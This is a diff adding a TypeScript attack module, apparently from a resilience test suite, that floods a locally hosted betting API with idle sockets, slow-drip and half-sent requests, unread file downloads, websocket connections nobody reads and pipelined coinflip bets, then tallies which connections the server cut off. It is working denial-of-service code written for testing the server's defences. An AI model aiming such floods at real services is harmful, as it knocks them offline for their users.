@@ -1,0 +1,113 @@
+import { once } from 'node:events'
+import type { Socket } from 'node:net'
+import { setTimeout as sleep } from 'node:timers/promises'
+import type { Attack, Target } from './attack.ts'
+import {
+  firstStatus,
+  openConnection,
+  pipeline,
+  type RawRequest,
+  requestText,
+} from './raw-http.ts'
+import { tallyOf } from './tally.ts'
+import { upgradeRequest } from './upgrade-request.ts'
+import { LARGE_FILE } from './web-folder.ts'
+
+const IDLE = 1_000
+const DRIPPING = 200
+const HALF_OPEN = 200
+const SLOW_READERS = 100
+/** Files that each slow reader asks for at once. */
+const FILES_EACH = 4
+const SILENT_SOCKETS = 20
+const BALANCE_PUSHES = 400
+const DRIP_EVERY_MS = 1_000
+
+/** More at once would wait in the kernel's queue, which drops anybody's. */
+const WAVE = 100
+const WAVE_EVERY_MS = 50
+
+/** Connections that cost the API something and the attacker next to nothing. */
+export const floodConnections: Attack = async (target, signal) => {
+  const { port } = target
+  const sockets = [
+    ...(await openMany(IDLE, () => openConnection(port).resume())),
+    ...(await openMany(DRIPPING, () => dripping(port, signal))),
+    ...(await openMany(HALF_OPEN, () => saying(port, HALF_REQUEST).resume())),
+    ...(await openMany(SLOW_READERS, () => saying(port, MANY_FILES).pause())),
+  ]
+  const answers = await pushToSilentSockets(target, signal)
+  if (!signal.aborted) await once(signal, 'abort')
+  return tallyOf([...answers, ...sockets.map(endOf)])
+}
+
+const GET_FILE = requestText({ method: 'GET', path: LARGE_FILE })
+const MANY_FILES = GET_FILE.repeat(FILES_EACH)
+
+/** A request whose body never comes. */
+const HALF_REQUEST = requestText({
+  method: 'POST',
+  path: '/api/login',
+  body: JSON.stringify({ username: 'u', password: 'p' }),
+}).slice(0, -1)
+
+async function openMany(count: number, open: () => Socket): Promise<Socket[]> {
+  const sockets: Socket[] = []
+  while (sockets.length < count) {
+    const size = Math.min(WAVE, count - sockets.length)
+    sockets.push(...Array.from({ length: size }, open))
+    await sleep(WAVE_EVERY_MS)
+  }
+  return sockets
+}
+
+/** What the API did with a connection, as far as its reader knows. */
+function endOf({ destroyed, readableEnded }: Socket): string {
+  return destroyed || readableEnded ? 'cut off' : 'kept open'
+}
+
+function saying(port: number, text: string): Socket {
+  const socket = openConnection(port)
+  socket.write(text)
+  return socket
+}
+
+/** Sends a request so slowly that it never ends. */
+function dripping(port: number, signal: AbortSignal): Socket {
+  const socket = openConnection(port).resume()
+  let sent = 0
+  const dripper = setInterval(() => {
+    socket.write(GET_FILE.charAt(sent))
+    sent += 1
+  }, DRIP_EVERY_MS)
+  const stop = () => clearInterval(dripper)
+  socket.once('close', stop)
+  signal.addEventListener('abort', stop)
+  return socket
+}
+
+/** Lets the API push balances to sockets that nobody reads. */
+async function pushToSilentSockets(
+  { port, cookie }: Target,
+  signal: AbortSignal,
+): Promise<string[]> {
+  const headers = {
+    cookie,
+    origin: `http://127.0.0.1:${port}`,
+    host: `127.0.0.1:${port}`,
+  }
+  const upgrade = requestText(upgradeRequest('/ws', headers))
+  const opened = Array.from({ length: SILENT_SOCKETS }, () =>
+    firstStatus(saying(port, upgrade), signal),
+  )
+  const upgrades = await Promise.all(opened)
+  const bets = Array.from({ length: BALANCE_PUSHES }, () => flip(cookie))
+  const flips = await pipeline(openConnection(port), bets, signal)
+  return [...upgrades, ...flips]
+}
+
+function flip(cookie: string): RawRequest {
+  const body = JSON.stringify({ choice: 'heads', betAmount: 1 })
+  const path = '/api/games/coinflip'
+  return { method: 'POST', path, headers: { cookie }, body }
+}
